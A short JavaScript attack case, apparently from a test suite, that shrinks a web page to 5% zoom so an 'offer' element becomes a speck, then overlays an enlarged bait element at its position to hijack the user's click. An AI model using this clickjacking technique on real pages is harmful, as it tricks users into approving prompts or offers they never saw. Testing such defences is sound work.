/* Attack: the page is zoomed until the offer is a speck, then the bait is drawn under the speck. */
import { bait, lure } from "../lure.js";

lure({
  onOffer: (host) => {
    document.documentElement.style.setProperty("zoom", "0.05", "important");
    setTimeout(() => {
      const speck = bait(host.getBoundingClientRect());
      speck.style.zoom = "20";
    }, 1000);
  },
});
